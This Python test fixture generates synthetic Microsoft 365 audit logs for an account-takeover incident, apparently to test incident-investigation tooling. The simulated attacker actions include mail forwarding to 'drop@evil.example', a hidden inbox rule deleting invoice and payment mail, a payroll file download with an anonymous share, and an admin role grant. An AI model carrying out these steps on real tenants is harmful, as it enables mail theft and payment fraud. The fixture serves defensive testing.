"""One small incident, as records: an attacker sprays passwords, gets into alice's account, forwards her mail,
creates a rule, reads and sends mail and downloads files; alice works as usual from her own address."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

T0 = datetime(2026, 11, 10, 9, 0, tzinfo=UTC)
ATTACKER_IP = "203.0.113.66"
ALICE_IP = "198.51.100.7"
ALICE = "alice@contoso.com"
SESSION = "5b6b2c1e-attacker-session"
OWN_SESSION = "9f1d-alice-own-session"


def t(minutes: float) -> str:
    return (T0 + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%S")


def audit(rid: str, op: str, minutes: float, *, user: str = ALICE, ip: str = ATTACKER_IP,
          workload: str = "Exchange", record_type: str = "ExchangeAdmin", session: str | None = SESSION,
          **extra: Any) -> dict[str, Any]:
    r: dict[str, Any] = {"Id": rid, "CreationTime": t(minutes), "Operation": op, "RecordType": record_type,
                         "OrganizationId": "org-1", "UserType": 0, "UserKey": "key-" + user, "Workload": workload,
                         "UserId": user, "ClientIP": ip, "ResultStatus": "Succeeded"}
    if session:
        r["SessionId"] = session
        r["AppAccessContext"] = {"AADSessionId": session}
    r.update(extra)
    return r


def params(**values: str) -> list[dict[str, str]]:
    return [{"Name": k, "Value": v} for k, v in values.items()]


def records() -> list[dict[str, Any]]:
    """The unified audit records of the incident (the user's own included)."""
    out = []
    # password spray: failures as 6 users from the attacker, then alice's success
    for i, victim in enumerate(["bob", "carol", "dan", "erin", "frank", "alice"]):
        out.append(audit(f"fail-{i}", "UserLoginFailed", i, user=f"{victim}@contoso.com",
                         workload="AzureActiveDirectory", record_type="AzureActiveDirectoryStsLogon", session=None,
                         LogonError="InvalidUserNameOrPassword"))
    out.append(audit("login-1", "UserLoggedIn", 10, workload="AzureActiveDirectory",
                     record_type="AzureActiveDirectoryStsLogon"))
    out.append(audit("fwd-1", "Set-Mailbox", 12, Parameters=params(
        Identity=ALICE, ForwardingSmtpAddress="smtp:drop@evil.example", DeliverToMailboxAndForward="False")))
    out.append(audit("rule-1", "New-InboxRule", 13, Parameters=params(
        Name="..", Mailbox=ALICE, DeleteMessage="True", SubjectContainsWords="invoice;payment",
        MoveToFolder="RSS Feeds", StopProcessingRules="True")))
    out.append(audit("read-1", "MailItemsAccessed", 15, record_type="ExchangeItemAggregated",
                     OperationProperties=[{"Name": "MailAccessType", "Value": "Bind"}],
                     Folders=[{"Path": "\\Inbox", "FolderItems": [
                         {"InternetMessageId": "<m1@contoso.com>"}, {"InternetMessageId": "<m2@contoso.com>"}]}]))
    out.append(audit("sync-1", "MailItemsAccessed", 16, record_type="ExchangeItemAggregated",
                     OperationProperties=[{"Name": "MailAccessType", "Value": "Sync"}],
                     Folders=[{"Path": "\\Sent Items"}]))
    out.append(audit("send-1", "Send", 18, record_type="ExchangeItem",
                     Item={"InternetMessageId": "<x1@contoso.com>", "Subject": "Updated bank details"}))
    out.append(audit("file-1", "FileDownloaded", 20, workload="SharePoint", record_type="SharePointFileOperation",
                     ObjectId="https://contoso.sharepoint.com/sites/fin/Shared Documents/payroll.xlsx",
                     SiteUrl="https://contoso.sharepoint.com/sites/fin"))
    out.append(audit("share-1", "AnonymousLinkCreated", 21, workload="SharePoint",
                     record_type="SharePointSharingOperation",
                     ObjectId="https://contoso.sharepoint.com/sites/fin/Shared Documents/payroll.xlsx"))
    # alice's own work: her address, her session
    out.append(audit("own-login", "UserLoggedIn", 30, ip=ALICE_IP, session=None, workload="AzureActiveDirectory",
                     record_type="AzureActiveDirectoryStsLogon"))
    out.append(audit("own-read", "MailItemsAccessed", 31, ip=ALICE_IP, session=OWN_SESSION,
                     record_type="ExchangeItemAggregated",
                     OperationProperties=[{"Name": "MailAccessType", "Value": "Bind"}],
                     Folders=[{"Path": "\\Inbox", "FolderItems": [{"InternetMessageId": "<m9@contoso.com>"}]}]))
    out.append(audit("own-file", "FileAccessed", 32, ip=ALICE_IP, session=OWN_SESSION, workload="SharePoint",
                     record_type="SharePointFileOperation",
                     ObjectId="https://contoso.sharepoint.com/sites/fin/Shared Documents/budget.xlsx"))
    return out


ATTACKER_RECORDS = {"login-1", "fwd-1", "rule-1", "read-1", "sync-1", "send-1", "file-1", "share-1"}
OWN_RECORDS = {"own-login", "own-read", "own-file"}


def sign_ins() -> list[dict[str, Any]]:
    return [{"id": f"si-{i}", "createdDateTime": t(i) + "Z", "userPrincipalName": ALICE, "ipAddress": ALICE_IP,
             "appDisplayName": "Office 365", "clientAppUsed": "Browser", "userAgent": "Mozilla/5.0",
             "status": {"errorCode": 0}, "location": {"countryOrRegion": "GB", "city": "London"}}
            for i in range(3)]


def directory_audits() -> list[dict[str, Any]]:
    return [{"id": "Directory_role-1", "category": "RoleManagement", "correlationId": "c1", "result": "success",
             "activityDisplayName": "Add member to role", "activityDateTime": t(25) + "Z",
             "loggedByService": "Core Directory", "operationType": "Assign",
             "initiatedBy": {"user": {"userPrincipalName": ALICE, "ipAddress": ATTACKER_IP}},
             "targetResources": [{"type": "User", "userPrincipalName": "mallory@contoso.com", "modifiedProperties": [
                 {"displayName": "Role.DisplayName", "oldValue": None, "newValue": "\"Global Administrator\""}]}]}]
